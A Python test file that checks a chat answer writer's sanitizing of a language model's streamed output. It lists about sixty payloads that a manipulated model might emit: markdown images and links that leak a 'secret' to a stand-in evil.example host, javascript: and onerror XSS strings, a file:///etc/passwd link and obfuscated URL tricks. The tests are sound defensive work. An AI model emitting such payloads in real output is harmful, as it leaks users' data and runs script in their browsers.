"""What a model may be talked into writing: sixty ways to load, run, leak or mislead, wherever the stream is cut."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest

from api.chat.answer_writer import AnswerWriter
from tests.passages import BM25, passage
from tests.unit.test_citations import rendered

PASSAGES = [passage("Drop the anchor over the bow."), passage("Pay out the chain.", heading="Chain")]
SITE = "https://site.example"
EVIL = "https://evil.example/c?q=secret"

PAYLOADS = [
    # Images, which a reader's browser loads without a click
    f"![x]({EVIL})",
    f"![x](<{EVIL}>)",
    f"![x]({EVIL} 'title')",
    f"![x][ref]\n\n[ref]: {EVIL}",
    f"![ref]\n\n[ref]: <{EVIL}>",
    f"[![x]({EVIL})]({EVIL})",
    f"[![x]({EVIL})]({SITE}/ok)",
    f"!\\[x]({EVIL}) ![x\\]]({EVIL})",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"- ![x]({EVIL})\n  > ![y]({EVIL})",
    f"![a](\n{EVIL}\n)",
    f"![[1]]({EVIL})",
    # Links
    f"[click]({EVIL})",
    f"[click](<{EVIL}>)",
    f"[click][1]\n\n[1]: {EVIL}",
    f"[1]: {EVIL}\n\nSee [1].",
    f"[1]({EVIL})",
    f"[1] ({EVIL})",
    f"[[1]]({EVIL})",
    f"[a [b]({EVIL}) c]({EVIL})",
    f"[click]({SITE}@evil.example/)",
    f"[click]({SITE}.evil.example/)",
    "[click](https:evil.example)",
    "[click](HTTPS://EVIL.EXAMPLE/)",
    "[click](https&colon;//evil.example)",
    "[click](https://evil.example\\)",
    "[click](%68ttps://evil.example)",
    "[click](////evil.example)",
    "[click](/%09/evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "[click](mailto:thief@evil.example?body=secret)",
    f"<{EVIL}>",
    "<mailto:thief@evil.example>",
    f"Go to {EVIL} now.",
    "Go to www.evil.example/secret now.",
    "Go to ftp://evil.example now.",
    "Go to \\https://evil.example and ht\\tps://evil.example",
    # HTML
    f"<img src='{EVIL}'>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    f"<a href='{EVIL}'>click</a>",
    f"<iframe src='{EVIL}'></iframe>",
    "<svg/onload=alert(1)>",
    "<!-- x --><b onclick=alert(1)>",
    "<[9]img src=x onerror=alert(1)>",
    "\\<img src=x>\\\\<img src=x>",
    "<?php echo 1 ?><![CDATA[<img src=x>]]>",
    # Code that is none
    f"`open ![x]({EVIL})",
    f"``` ![x]({EVIL}) ```\n![y]({EVIL})",
    f"> ```\n![x]({EVIL})\n> ```\n![y]({EVIL})",
    f"~~~\ncode\n~~~~ x\n~~~\n![x]({EVIL})",
    f"| `a | ![x]({EVIL})` |\n|---|---|\n| `b | [y]({EVIL})` |",
    # Marks of passages that were not shown, and words around them
    f"Drop it [99][0][-1] [7]({EVIL}). \u00dcber Bord\u2026 [^9](x) \U0001f600![1]({EVIL})",
    f"Drop the anchor. ![x]({EVIL}) Penguins breed on ice shelves. [y]({EVIL})",
]


def written(text: str, *cuts: int) -> str:
    writer = AnswerWriter(PASSAGES, BM25)
    pieces = [writer.feed(text[start:end]).text for start, end in pairwise([0, *cuts, len(text)])]
    return "".join(pieces) + writer.finish().text


def test_there_are_sixty_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_it_loads_runs_or_leads_off_the_site(payload: str) -> None:
    text = f"Drop it. {payload}\n\nPay out [2]."
    out = written(text)
    for position in range(1, len(text)):
        assert written(text, position) == out, position
    assert written(text, *range(1, len(text))) == out
    for token in rendered(out):
        assert token.type not in ("image", "html_inline", "html_block"), out
        if token.type == "link_open":
            href = str(token.attrs["href"])
            assert re.match(rf"{re.escape(SITE)}/|/(?![/\\])|#", href), out
        if token.type == "text":
            assert not re.search(r"(?:https?|ftp)://(?!site\.example/)|www\.", token.content, re.IGNORECASE), out
